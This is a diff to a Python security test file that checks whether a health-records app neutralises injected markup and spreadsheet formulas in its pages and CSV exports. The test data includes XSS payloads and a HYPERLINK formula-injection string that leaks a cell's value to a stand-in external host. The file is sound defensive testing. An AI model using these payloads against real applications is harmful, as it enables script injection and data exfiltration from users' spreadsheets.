@@ -10,8 +10,6 @@ from browser import CHROMIUM, Browser, browser
 from health_server import Server
 from sqlalchemy import Engine, text
 
-from health.spreadsheet import FORMULA
-
 SCRIPT = '<img src=x onerror="window.hacked=1"><script>window.hacked=2</script>'
 CALL = '=HYPERLINK("http://a.example/?x="&A1,"b")'
 EVIL = f"{SCRIPT}' onmouseover='window.hacked=3"
@@ -23,6 +21,7 @@ PLACES = {
     "'field', :evil, 'code', :evil, 'reason', :evil))",
     "sync.batch": "run_id = :evil || id",
 }
+SIGNS = ("=", "+", "-", "@")  # what a spreadsheet takes for a formula begins with one of them
 VIEWS = ("records", "quarantine", "conflicts")
 
 
@@ -71,7 +70,7 @@ def test_no_cell_of_a_plan_is_a_formula(page: Server, filled: Engine) -> None:
     rows = list(csv.reader(io.StringIO(answer.text)))
     assert len(rows) > 3
     assert any(CALL in cell for row in rows[1:] for cell in row)
-    assert [cell for row in rows for cell in row if cell.lstrip(" ").startswith(FORMULA)] == []
+    assert [cell for row in rows for cell in row if cell.strip(' "').startswith(SIGNS)] == []
 
 
 @pytest.mark.parametrize("page", [EVIL], indirect=True, ids=["script"])
